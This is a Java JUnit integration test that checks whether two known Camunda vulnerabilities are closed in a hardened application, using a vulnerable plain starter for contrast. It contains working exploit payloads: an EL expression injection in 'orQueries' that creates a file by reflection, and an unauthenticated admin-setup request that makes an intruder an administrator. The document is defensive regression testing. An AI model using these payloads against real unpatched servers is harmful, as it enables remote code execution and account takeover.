package org.whistle.plain;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.HttpCookie;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.SQLException;
import java.sql.Statement;
import org.camunda.bpm.engine.IdentityService;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.autoconfigure.flyway.FlywayConnectionDetails;
import org.springframework.boot.web.servlet.context.ServletWebServerApplicationContext;
import org.whistle.plain.PlainApplication.Caller;
import org.whistle.testing.DatabaseOwner;
import org.whistle.testing.Http;
import org.whistle.testing.WholeApplication;

/**
 * The two known holes of the engine's last free release, each tried on this application and, as the contrast that shows
 * that the trial is a true one, on the plain starter, which falls.
 */
@WholeApplication
class KnownHolesTest {

    private static final String DATABASE = "plain_starter";

    @Autowired
    private ServletWebServerApplicationContext application;

    @Autowired
    private IdentityService identity;

    @Autowired
    private DatabaseOwner owner;

    @Autowired
    private FlywayConnectionDetails details;

    @Test
    void the_plain_starter_falls_and_this_application_stands(@TempDir Path folder) throws Exception {
        execute("create database " + DATABASE);
        try (PlainApplication plain = PlainApplication.start(
                folder,
                details.getJdbcUrl().replaceFirst("/\\w+(\\?|$)", "/" + DATABASE + "$1"),
                details.getUsername(),
                details.getPassword())) {
            Caller there = plain.caller();
            Caller here = Caller.at(application.getWebServer().getPort());

            anExpressionInAQueryRunsCode(there, here, folder);
            anybodyMakesThemselvesAdministrator(there, here);
        } finally {
            execute("drop database " + DATABASE + " with (force)");
        }
    }

    /** CVE-2026-109432: expressions in {@code orQueries} are evaluated although ad-hoc expressions are off. */
    private void anExpressionInAQueryRunsCode(Caller there, Caller here, Path folder) throws Exception {
        Path fallen = folder.resolve("fallen");
        Path standing = folder.resolve("standing");

        post(there, "/engine-rest/task", query(fallen), null);
        HttpResponse<String> anonymous = post(here, "/engine-rest/task", query(standing), null);
        HttpResponse<String> signedIn =
                post(here, "/engine-rest/task", query(standing), Http.basic("admin", Http.PASSWORD));

        assertThat(fallen).as("the side effect at the plain starter").exists();
        assertThat(standing).doesNotExist();
        assertThat(anonymous.statusCode()).isEqualTo(401);
        assertThat(signedIn.statusCode()).as(signedIn.body()).isEqualTo(400);
    }

    /** CVE-2026-77226: the set-up of the Admin web application makes administrators without asking who calls. */
    private void anybodyMakesThemselvesAdministrator(Caller there, Caller here) throws Exception {
        String path = "/camunda/api/admin/setup/default/user/create";
        String intruder = "{\"profile\": {\"id\": \"intruder\", \"firstName\": \"I\", \"lastName\": \"I\","
                + " \"email\": \"\"}, \"credentials\": {\"password\": \"Intruder-4711-x\"}}";

        // somebody has an account there already; only nobody stands in camunda-admin itself
        post(there, "/engine-rest/user/create", intruder.replace("\"intruder\"", "\"chief\""), null);
        HttpResponse<String> fallen = post(there, path, intruder, null);
        HttpResponse<String> standing = post(here, path, intruder, null);

        assertThat(fallen.statusCode()).as(fallen.body()).isEqualTo(204);
        assertThat(get(there, "/engine-rest/group?member=intruder").body()).contains("camunda-admin");
        assertThat(standing.statusCode()).as(standing.body()).isIn(401, 403);
        assertThat(identity.createUserQuery().userId("intruder").count()).isZero();
    }

    private static String query(Path touched) {
        return "{\"orQueries\": [{\"assigneeExpression\": \"${''.getClass().forName('java.io.File')"
                + ".getConstructor(''.getClass()).newInstance('" + touched + "').createNewFile()}\"}]}";
    }

    /** With the cookies and the token of the pages, as their scripts call. */
    private static HttpResponse<String> post(Caller caller, String path, String body, String authorization)
            throws IOException, InterruptedException {
        get(caller, "/camunda/app/admin/default/setup/");
        HttpRequest.Builder request = HttpRequest.newBuilder(
                        caller.application().resolve(path))
                .header("Content-Type", "application/json")
                .POST(BodyPublishers.ofString(body));
        caller.cookies().getCookieStore().getCookies().stream()
                .filter(cookie -> cookie.getName().equals("XSRF-TOKEN"))
                .map(HttpCookie::getValue)
                .findFirst()
                .ifPresent(token -> request.header("X-XSRF-TOKEN", token));
        if (authorization != null) {
            request.header("Authorization", authorization);
        }
        return caller.client().send(request.build(), BodyHandlers.ofString());
    }

    private static HttpResponse<String> get(Caller caller, String path) throws IOException, InterruptedException {
        return caller.client()
                .send(HttpRequest.newBuilder(caller.application().resolve(path)).build(), BodyHandlers.ofString());
    }

    private void execute(String sql) throws SQLException {
        try (Connection connection = owner.connect();
                Statement statement = connection.createStatement()) {
            statement.execute(sql);
        }
    }
}
